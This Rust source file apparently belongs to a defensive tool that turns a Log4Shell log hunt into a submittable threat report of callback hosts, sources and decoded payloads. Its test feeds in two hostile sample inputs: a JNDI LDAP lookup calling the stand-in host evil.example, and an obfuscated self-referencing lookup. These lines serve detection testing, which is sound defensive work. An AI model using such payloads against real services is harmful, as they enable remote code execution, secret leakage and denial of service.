//! A hunt as a vulnshare threat report ([`ReportContent`] of kind `threat`), ready to submit:
//! what was seen (technical characteristics), what it can do (harm) and where (scope of impact).

use std::fmt::Write as _;

use jiff::Timestamp;
use vulnshare_core::report::{ExploitationStatus, ReportContent, ReportKind};
use vulnshare_core::tlp::Tlp;

use super::HitClass;
use super::input::HuntTotals;
use super::output::{Tally, printable};

/// Most callback hosts, sources and inputs listed by name in the report text.
const LISTED: usize = 25;

/// What the report needs besides the tally.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ThreatReportInput<'a> {
    /// Totals of the hunt.
    pub totals: HuntTotals,
    /// The inputs scanned, as named.
    pub inputs: &'a [String],
    /// When the first hit was detected: the reporter's awareness time.
    pub aware_at: Timestamp,
    /// The sharing label.
    pub tlp: Tlp,
}

/// Builds the threat report content for a hunt with at least one hit.
pub fn threat_report(tally: &Tally, input: &ThreatReportInput<'_>) -> ReportContent {
    let hits = tally.hits();
    let mut aliases = vec!["CVE-2021-44228".to_string()];
    if tally.class_hits(HitClass::RecursionDos) > 0 {
        aliases.push("CVE-2021-45105".to_string());
    }
    let awareness_evidence = tally.first().map(|first| {
        format!(
            "first hit in {} line {}: {}",
            printable(&first.input, 200),
            first.line_number,
            printable(&first.decoded_payload, 500)
        )
    });
    ReportContent {
        kind: ReportKind::Threat,
        title: format!(
            "Log4Shell exploitation attempts in logs: {hits} hit(s) from {} source address(es)",
            tally.distinct_sources()
        ),
        technical_characteristics: technical_characteristics(tally, &input.totals),
        harm: "A log4j 2 lookup that reaches a vulnerable logger (2.0-beta9 to 2.14.1) makes the \
            server fetch and run code from the callback host (remote code execution, \
            CVE-2021-44228); lookups such as ${env:...} in the host name leak secrets through DNS \
            even where code loading is blocked; self-referencing lookups (CVE-2021-45105) stop the \
            logging thread (denial of service)."
            .to_string(),
        scope_of_impact: scope_of_impact(input),
        affected_products: Vec::new(),
        affected_packages: Vec::new(),
        cvss_vector: None,
        cwes: Vec::new(),
        exploitation: ExploitationStatus::ExploitedInWild,
        aware_at: Some(input.aware_at),
        awareness_evidence,
        tlp: input.tlp,
        aliases,
    }
}

fn technical_characteristics(tally: &Tally, totals: &HuntTotals) -> String {
    let classes: Vec<String> = tally
        .hits_per_class()
        .iter()
        .map(|(class, n)| format!("{class} {n}"))
        .collect();
    let mut text = format!(
        "vulnshare hunt evaluated the log4j 2 lookup grammar over {} line(s) in {} file(s) and \
         found {} exploitation attempt(s): {}.\n",
        totals.scan.lines,
        totals.files,
        tally.hits(),
        classes.join(", ")
    );
    let mut targets = tally.targets();
    targets.sort_by(|a, b| b.1.hits.cmp(&a.1.hits).then(a.0.cmp(b.0)));
    if !targets.is_empty() {
        let _ = writeln!(
            text,
            "\nCallback hosts ({}, most named first):",
            targets.len()
        );
        for (host, target) in targets.iter().take(LISTED) {
            let protocols = target.protocols();
            let ports: Vec<String> = target.ports().iter().map(u16::to_string).collect();
            let _ = writeln!(
                text,
                "- {} ({} hit(s); protocols {}; ports {})",
                printable(host, 200),
                target.hits,
                if protocols.is_empty() {
                    "-".into()
                } else {
                    protocols.join(", ")
                },
                if ports.is_empty() {
                    "-".into()
                } else {
                    ports.join(", ")
                }
            );
        }
    }
    let mut sources = tally.sources();
    sources.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
    if !sources.is_empty() {
        let _ = writeln!(
            text,
            "\nSource addresses ({}, most active first):",
            sources.len()
        );
        for (ip, n) in sources.iter().take(LISTED) {
            let _ = writeln!(text, "- {ip} ({n} hit(s))");
        }
    }
    if !tally.examples().is_empty() {
        let _ = writeln!(text, "\nDecoded payloads (examples):");
        for example in tally.examples() {
            let _ = writeln!(text, "- {}", printable(example, 300));
        }
    }
    text
}

fn scope_of_impact(input: &ThreatReportInput<'_>) -> String {
    let mut text = String::from(
        "Services whose logs were scanned, listed below; any Java service among them that logs \
         request data with log4j 2 before 2.17.1 may be compromised and should be checked for \
         outbound connections to the callback hosts. The hosts and sources are indicators for \
         other operators.\n",
    );
    for name in input.inputs.iter().take(LISTED) {
        let _ = writeln!(text, "- {}", printable(name, 300));
    }
    if input.inputs.len() > LISTED {
        let _ = writeln!(text, "- and {} more", input.inputs.len() - LISTED);
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hunt::Hunter;

    #[test]
    fn report_validates_and_is_submittable() {
        let mut tally = Tally::default();
        for line in [
            r#"203.0.113.7 - - [10/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://evil.example:1389/a}""#,
            "${${::-${::-$${::-j}}}}",
        ] {
            for hit in Hunter::default().scan_line(line.as_bytes()) {
                tally.record("access.log", &hit);
            }
        }
        let now: Timestamp = "2026-11-23T12:00:00Z".parse().unwrap();
        let inputs = vec!["access.log".to_string()];
        let content = threat_report(
            &tally,
            &ThreatReportInput {
                totals: HuntTotals::default(),
                inputs: &inputs,
                aware_at: now,
                tlp: Tlp::Amber,
            },
        );
        let content = content.validate(now).expect("valid");
        content.check_submittable().expect("submittable");
        assert_eq!(content.aliases, ["CVE-2021-44228", "CVE-2021-45105"]);
        assert!(content.technical_characteristics.contains("evil.example"));
        assert!(
            content
                .awareness_evidence
                .as_deref()
                .unwrap()
                .contains("access.log line 1")
        );
        // The wire format is what the server's deny_unknown_fields parser accepts.
        let json = serde_json::to_string(&content).unwrap();
        let back: ReportContent = serde_json::from_str(&json).unwrap();
        assert_eq!(back.kind, ReportKind::Threat);
    }
}
